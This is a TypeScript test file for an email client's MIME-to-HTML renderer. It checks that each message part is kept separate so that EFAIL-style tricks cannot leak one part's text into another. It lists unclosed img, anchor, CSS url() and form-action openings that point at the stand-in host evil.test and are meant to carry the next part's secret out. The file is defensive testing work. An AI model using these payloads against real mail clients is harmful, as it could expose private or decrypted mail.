import { fileURLToPath } from 'node:url'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { hasCorpora } from '@/e2e/corpora'
import { chooseParts } from '@/lib/mime/choose'
import { fixtureMessages } from '@/lib/mime/fixtures'
import { rootClass } from '@/lib/mime/html/names'
import { limits } from '@/lib/mime/limits'
import { splitMessage } from '@/lib/mime/split'
import { bodiesOf } from '@/lib/mime/split-bodies'
import { treeOf } from '@/lib/mime/structure'
import { packWorkers } from '@/scripts/workers.mjs'
import { readPieces } from './bodies'

async function drawn(bytes: Buffer) {
  const split = splitMessage(bytes)
  const { pieces } = chooseParts(treeOf(split).root)
  const read = await readPieces(pieces, { bodies: bodiesOf(split), showRemote: true, cleanLinks: false })
  return { pieces, html: read.html, isTooSlow: read.isTooSlow }
}

/** How deep inside another each box of a piece stands, and every address there is. */
function boxesIn(html: string) {
  const depths: number[] = []
  const addresses: string[] = []
  const open: boolean[] = []
  const parser = new Parser({
    onopentag(_, attributes) {
      const isBox = (attributes.class ?? '').split(' ').includes(rootClass)
      if (isBox) depths.push(open.length)
      open.push(isBox)
      addresses.push(...['href', 'src', 'action', 'background', 'style'].flatMap((name) => attributes[name] ?? []))
    },
    onclosetag: () => void open.pop(),
  })
  parser.end(html)
  return { depths, addresses }
}

describe.skipIf(!hasCorpora)('T13 messages that want one part to swallow the next', () => {
  test('each piece stands in a box of its own, beside the others, and no address holds what another piece says', async () => {
    const mail = fixtureMessages('own-hostile/efail')
    let boxes = 0
    for (const { file, bytes } of mail) {
      const { pieces, html } = await drawn(bytes)
      if (html === null) continue
      const { depths, addresses } = boxesIn(html)
      boxes += depths.length
      expect(depths, file).toEqual(pieces.map(() => 0))
      for (const address of addresses) expect(address, file).not.toMatch(/BEGIN PGP|hQEMA|SECRET/i)
    }
    process.stdout.write(`efail: ${mail.length} messages, ${boxes} pieces, none inside another\n`)
    expect(boxes).toBeGreaterThan(mail.length)
  })
})

test('T13 an attribute, comment, style or element that is left open ends with its piece', async () => {
  const secret = 'The secret of the second part'
  for (const opening of [
    '<img src="https://evil.test/?',
    "<a href='https://evil.test/",
    '<style>p{background:url(https://evil.test/',
    '<!--',
    '<textarea>',
    '<form action="https://evil.test/"><select><option>',
    '<svg><style>',
    '<xmp>',
    '<plaintext>',
    '<iframe srcdoc="',
    '<table><tr><td>',
    '<title>',
    '<p style="background:url(https://evil.test/',
  ]) {
    const raw = [
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...[opening, `<p>${secret}</p>`, '">\')}</style>--></textarea>'].flatMap((html) => [
        '--b',
        'Content-Type: text/html',
        '',
        html,
      ]),
      '--b--',
    ].join('\r\n')
    const { html } = await drawn(Buffer.from(raw))
    const { depths, addresses } = boxesIn(html ?? '')
    expect(depths, opening).toEqual([0, 0, 0])
    expect(html, opening).toContain(`<p>${secret}</p>`)
    expect(addresses.join(' '), opening).not.toContain('secret')
  }
})

test('T10 formatting that takes too long to be made safe is told, and its words are shown', async () => {
  const workers = fileURLToPath(new URL('../../../test-results/slow-workers', import.meta.url))
  await packWorkers(workers)
  Object.assign(globalThis, { buzonWorkers: workers })
  const patience = limits.htmlMs
  Object.assign(limits, { htmlMs: 1 })
  const html = `<p>The words <b onclick="x()">that matter</b></p>${'<table><tr><td>row</td></tr></table>'.repeat(20_000)}`
  const read = await drawn(Buffer.from(`Content-Type: text/html\r\n\r\n${html}`))
  Object.assign(limits, { htmlMs: patience })
  expect(read.isTooSlow).toBe(true)
  expect(read.html).toContain('The words that matter')
  expect(read.html).not.toContain('onclick')
})
